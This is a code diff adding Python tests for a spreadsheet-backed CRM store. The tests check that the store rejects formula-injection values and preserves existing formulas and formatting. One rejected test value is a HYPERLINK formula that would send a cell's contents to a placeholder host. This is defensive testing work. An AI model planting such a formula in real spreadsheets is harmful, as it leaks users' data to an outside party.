@@ -5,6 +5,8 @@ from __future__ import annotations
 import stat
 from pathlib import Path
 
+import openpyxl
+import openpyxl.styles
 import pandas as pd
 import pytest
 
@@ -112,3 +114,95 @@ def test_a_rewrite_keeps_the_files_mode_and_byte_order_mark(tmp_path: Path) -> N
     assert sheet.read_bytes().startswith(b"\xef\xbb\xbfid,")
     assert stat.S_IMODE(sheet.stat().st_mode) == 0o640
     assert list(pd.read_csv(sheet, dtype=str, encoding="utf-8-sig")["first_name"]) == ["Ann", "Bob"]
+
+
+@pytest.mark.parametrize("sheet", ["crm", "crm.xlsx"])
+def test_the_tool_never_puts_new_formula_text_in_a_sheet(tmp_path: Path, sheet: str) -> None:
+    # OWASP CSV injection: a cell starting with = + - @ tab or CR runs as a formula.
+    path = tmp_path / sheet
+    frame = pd.DataFrame(
+        {
+            "id": ["C1", "C2", "C3", "C4"],
+            "phone": ["(415) 555-0100", "+1 415 555 0101", "", "-"],
+            "title": ["CEO", "CTO", "", "=1+1"],
+        }
+    )
+    if sheet.endswith(".xlsx"):
+        _workbook_of_text(path, {"contacts": frame})
+    else:
+        path.mkdir()
+        frame.to_csv(path / "contacts.csv", index=False)
+    store = SpreadsheetRecordStore(path, default_tenant="acme")
+    changes = [
+        # New formula-like text: refused with the reason.
+        FieldChange(Entity.CONTACT, "C1", "phone", "(415) 555-0100", "+14155550100"),
+        FieldChange(Entity.CONTACT, "C1", "title", "CEO", '=HYPERLINK("http://x.example/?"&A1)'),
+        FieldChange(Entity.CONTACT, "C2", "title", "CTO", "@SUM(1)"),
+        FieldChange(Entity.CONTACT, "C2", "first_name", None, "\tTab"),
+        # A value the sheet already holds in that column (a merge copying a stored phone).
+        FieldChange(Entity.CONTACT, "C3", "phone", None, "+1 415 555 0101"),
+        # A cell that already starts so (the team wrote it): theirs to keep changing.
+        FieldChange(Entity.CONTACT, "C4", "title", "=1+1", "=2+2"),
+        FieldChange(Entity.CONTACT, "C4", "phone", "-", "- none -"),
+    ]
+    results = store.apply_changes("acme", changes).results
+    outcomes = [r.outcome for r in results]
+    assert outcomes == [Outcome.REJECTED] * 4 + [Outcome.APPLIED] * 3
+    assert results[0].reason == (
+        "not written: a sheet cell starting with '+' is run as a formula by spreadsheet programs"
+    )
+    rows = store.snapshot("acme", Entity.CONTACT).set_index("id")
+    assert rows.at["C1", "phone"] == "(415) 555-0100" and rows.at["C1", "title"] == "CEO"
+    assert rows.at["C3", "phone"] == "+1 415 555 0101" and rows.at["C4", "title"] == "=2+2"
+
+
+def _workbook_of_text(path: Path, sheets: dict[str, pd.DataFrame]) -> None:
+    """A workbook whose cells are text as typed (`'=1+1` in Excel), not formulas."""
+    book = openpyxl.Workbook()
+    book.remove(book.active)
+    for name, frame in sheets.items():
+        sheet = book.create_sheet(name)
+        sheet.append(list(frame.columns))
+        for row in frame.itertuples(index=False):
+            sheet.append([v or None for v in row])
+        for cells in sheet.iter_rows():
+            for cell in cells:
+                if isinstance(cell.value, str) and cell.value.startswith("="):
+                    cell.data_type = "s"
+    book.save(path)
+
+
+def test_a_workbook_keeps_formulas_styles_and_text_that_looks_like_a_formula(tmp_path: Path) -> None:
+    path = tmp_path / "crm.xlsx"
+    book = openpyxl.Workbook()
+    contacts = book.active
+    contacts.title = "contacts"
+    contacts.append(["id", "first_name", "email", "Score", "Note"])
+    contacts.append(["C1", "ann", "ANN@ACME.COM", "=LEN(B2)", "=not a formula"])
+    contacts.append(["C2", "Bob", "bob@acme.com", "=LEN(B3)", "plain"])
+    contacts["E2"].data_type = "s"
+    contacts["B1"].font = openpyxl.styles.Font(bold=True)
+    contacts.column_dimensions["C"].width = 40
+    contacts.freeze_panes = "A2"
+    targets = book.create_sheet("targets")
+    targets.append(["quarter", "target", "double"])
+    targets.append(["Q1", 100, "=B2*2"])
+    book.save(path)
+
+    store = SpreadsheetRecordStore(path, default_tenant="acme")
+    report = store.apply_changes(
+        "acme", [FieldChange(Entity.CONTACT, "C1", "email", "ANN@ACME.COM", "ann@acme.com")]
+    )
+    assert report.results[0].outcome is Outcome.APPLIED
+
+    saved = openpyxl.load_workbook(path)
+    contacts, targets = saved["contacts"], saved["targets"]
+    assert contacts["C2"].value == "ann@acme.com"
+    assert (contacts["D2"].value, contacts["D3"].value) == ("=LEN(B2)", "=LEN(B3)"), "formulas kept"
+    assert (contacts["E2"].value, contacts["E2"].data_type) == ("=not a formula", "s"), "text stays text"
+    assert contacts["B1"].font.bold and contacts.column_dimensions["C"].width == 40
+    assert contacts.freeze_panes == "A2"
+    assert [c.value for c in targets[2]] == ["Q1", 100, "=B2*2"], "another sheet untouched"
+    header = [c.value for c in contacts[1]]
+    assert header[:5] == ["id", "first_name", "email", "Score", "Note"] and "version" in header
+    assert contacts.cell(row=2, column=header.index("version") + 1).value == "2"
